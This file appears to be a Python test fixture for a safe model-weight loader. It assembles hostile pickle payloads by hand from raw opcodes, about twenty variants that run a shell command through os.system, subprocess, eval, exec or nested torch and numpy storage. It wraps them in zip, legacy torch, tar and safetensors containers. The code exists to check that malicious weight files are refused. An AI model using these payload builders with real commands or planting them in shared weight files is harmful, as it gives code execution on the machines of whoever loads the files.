"""Weight files as an enemy would write them: pickles that run a command, and files that claim what they do not hold.

Every pickle here really runs its command, `touch CANARY`, when it is read the usual way; a test makes sure of it.
"""

import copyreg
import io
import pickle
import struct
import tarfile
import zipfile

import torch

PREFIX = b"\x80\x02"
STOP = b"."
EXTENSION = 240
"""Code under which some program may have registered a function of its own."""


class Trap:
    """An object whose pickle prints when it is read the usual way: a test looks whether anything was printed."""

    def __reduce__(self):
        return print, ("this must never run",)


def text(value):
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def integer(value):
    content = pickle.encode_long(value)
    return b"\x8a" + bytes([len(content)]) + content


def name(module, function):
    return f"c{module}\n{function}\n".encode()


def group(*parts):
    return b"(" + b"".join(parts) + b"t"


def call(module, function, *arguments):
    return name(module, function) + group(*arguments) + b"R"


def made(*arguments, of, end=b"\x81"):
    """Return an object of a builtin class, made without a call of its own."""
    return name("builtins", of) + group(*arguments) + end


def binary(content):
    return b"B" + struct.pack("<I", len(content)) + content


def programs(command):
    """Return the bodies of pickles that run a shell command, by what they use for it."""
    run = text(command)
    words = b"(" + b"".join(text(word) for word in command.split()) + b"l"
    module = call("importlib", "import_module", text("os"))
    system = call("builtins", "getattr", module, text("system"))
    inner = PREFIX + call("os", "system", run) + STOP
    one = b"(" + run + b"l"
    hook = text("__setstate__") + name("os", "system")
    empty = call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), group(b"K\x00"), binary(b"b"))
    objects = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
    return {
        "REDUCE": call("os", "system", run),
        "INST": b"(" + run + b"ios\nsystem\n",
        "OBJ": b"(" + name("subprocess", "Popen") + words + b"o",
        "NEWOBJ": made(made(name("os", "system"), one, of="map"), of="tuple"),
        "NEWOBJ_EX": made(made(name("os", "system"), one, of="map", end=b"}\x92"), of="tuple", end=b"}\x92"),
        "BUILD": name("argparse", "Namespace") + b")\x81}" + hook + b"sb" + run + b"b",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93" + group(run) + b"R",
        "EXT": b"\x82" + bytes([EXTENSION]) + group(run) + b"R",
        "memo": name("os", "system") + b"q\x070h\x07" + group(run) + b"R",
        "getattr chain": system + group(run) + b"R",
        "partial": call("functools", "partial", name("os", "system"), run) + b")R",
        "methodcaller": call("operator", "methodcaller", text("system"), run) + group(module) + b"R",
        "eval": call("builtins", "eval", text(f"__import__('os').system({command!r})")),
        "names of Python 2": call("__builtin__", "eval", text(f"__import__('os').system({command!r})")),
        "exec": call("builtins", "exec", text(f"import os; os.system({command!r})")),
        "posix": call("posix", "system", run),
        "pickle in a pickle": call("pickle", "loads", binary(inner)),
        "storage in a pickle": call(
            "torch.storage", "_load_from_bytes", binary(legacy_file(call("os", "system", run)))
        ),
        "numpy object": empty + group(b"K\x01", group(b"K\x01"), objects, b"\x89", b"(" + inner[2:-1] + b"l") + b"b",
        "inside a dict": b"}" + text("weight") + call("os", "system", run) + b"s",
        "inside a namespace": name("argparse", "Namespace") + b")\x81}" + text("a") + call("os", "system", run) + b"sb",
        "as a storage": b"(" + text("storage") + call("os", "system", run) + text("0") + text("cpu") + b"K\x01tQ",
    }


def extension():
    """Register `os.system` as an extension code, as a program might; return what takes it back."""
    import os

    copyreg.add_extension(os.system.__module__, "system", EXTENSION)
    return lambda: copyreg.remove_extension(os.system.__module__, "system", EXTENSION)


def plain_file(body):
    return PREFIX + body + STOP


def legacy_file(body, keys=b"]", preamble=None, numbers=b""):
    """Return a file of torch's old format whose main pickle has this body."""
    magic = PREFIX + integer(torch.serialization.MAGIC_NUMBER) + STOP
    sizes = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, 2)
    parts = [magic, pickle.dumps(1001, 2), preamble or sizes, plain_file(body), PREFIX + keys + STOP, numbers]
    return b"".join(parts)


def zip_file(body, numbers=None, **members):
    """Return a torch file in a zip whose pickle has this body, and whose storages have these numbers."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("x/data.pkl", plain_file(body))
        archive.writestr("x/byteorder", b"little")
        for key, content in (numbers or {}).items():
            archive.writestr(f"x/data/{key}", content)
        archive.writestr("x/version", b"3\n")
        for key, content in members.items():
            archive.writestr(f"x/{key}", content)
    return stream.getvalue()


CONTAINERS = {
    "zip": zip_file,
    "legacy": legacy_file,
    "legacy preamble": lambda body: legacy_file(b"}", preamble=plain_file(body)),
    "legacy keys": lambda body: legacy_file(b"}", keys=body),
    "plain": plain_file,
}


def tensor(count=4, shape=(4,), strides=(1,), offset=0, key="0", kind="FloatStorage", last=b""):
    """Return the body that makes a tensor over a storage of which it claims `count` numbers."""
    storage = group(text("storage"), name("torch", kind), text(key), text("cpu"), integer(count), last) + b"Q"
    sizes, steps = (group(*map(integer, numbers)) for numbers in (shape, strides))
    hooks = call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", storage, integer(offset), sizes, steps, b"\x89", hooks)


def state(body):
    """Return the body of a dict with one tensor, `weight`."""
    return b"}" + text("weight") + body + b"s"


def tar_file(*members):
    """Return a tar archive of members, each a name and keywords of `tarfile.TarInfo`."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for member, attributes in members:
            info = tarfile.TarInfo(member)
            content = attributes.pop("content", b"numbers")
            info.size = len(content)
            for attribute, value in attributes.items():
                setattr(info, attribute, value)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def safetensors_file(header, numbers=b"", length=None):
    content = header.encode()
    return struct.pack("<Q", len(content) if length is None else length) + content + numbers
